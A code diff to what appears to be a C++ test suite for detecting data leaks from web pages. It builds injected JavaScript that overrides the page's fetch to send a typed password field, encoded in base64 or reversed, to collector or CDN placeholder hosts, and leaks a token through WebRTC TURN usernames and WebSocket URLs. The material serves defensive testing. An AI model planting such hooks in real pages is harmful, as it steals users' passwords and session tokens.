@@ -204,7 +204,13 @@ std::vector<Group> groups() {
     return "window.pc{{M}} = new RTCPeerConnection({iceServers: [{urls: '" + url + "', username: '{{M}}' + " + kTokenJs +
            ", credential: 'x'}]}); pc{{M}}.createDataChannel('d'); pc{{M}}.createOffer().then((o) => pc{{M}}.setLocalDescription(o)); 1";
   };
-  const std::string secret_poller = "const f = window.fetch; window.fetch = function () { return f(";
+  // The page's own poller calls fetch every 600 ms: tampered, it sends the typed field instead, and
+  // says so when the request has been answered or refused (a late sender: the run's last block
+  // waits for it, so the control shows the path works before ouro exits).
+  auto secret_poller = [](const std::string& url) {
+    return "const f = window.fetch; window.fetch = function () { const p = f(" + url +
+           ", {mode: 'no-cors'}); const done = () => localStorage.setItem('rt-{{M}}', '1'); p.then(done, done); return p; }; 1";
+  };
   g.push_back({"outside HTTP, and a typed secret",
                {
                    {.name = "WebRTC: TURN over UDP, the token as username", .page = rtc("turn:127.0.0.2:{{TURNU}}?transport=udp"),
@@ -221,11 +227,12 @@ std::vector<Group> groups() {
                     .page = on_error("new WebSocket('ws://{{CH}}/ws/{{M}}?d=' + " + kTokenJs + ")")},
                    {.name = "a typed secret, read back by the page's poller (base64)",
                     .repl = "await type(t, '#q', secret('bank_pw'))",
-                    .page = secret_poller + "'{{C}}/x/{{M}}?d=' + btoa(document.getElementById('q').value), {mode: 'no-cors'}); }; 1"},
+                    .page = secret_poller("'{{C}}/x/{{M}}?d=' + btoa(document.getElementById('q').value)"),
+                    .flags_done = true},
                    {.name = "a typed secret, sent to the page's own CDN (reversed)",
                     .repl = "await type(t, '#q', secret('bank_pw'))",
-                    .page = secret_poller + "'{{CDN}}/sink/{{M}}?d=' + [...document.getElementById('q').value].reverse().join(''), "
-                            "{mode: 'no-cors'}); }; 1",
+                    .page = secret_poller("'{{CDN}}/sink/{{M}}?d=' + [...document.getElementById('q').value].reverse().join('')"),
+                    .flags_done = true,
                     .evidence = Evidence::Cdn},
                    {.name = "a secret typed into a third-party sign-in frame",
                     .repl = "const r = (await find(t, 'Partner password'))[0].ref; await type(t, r, secret('bank_pw'))",
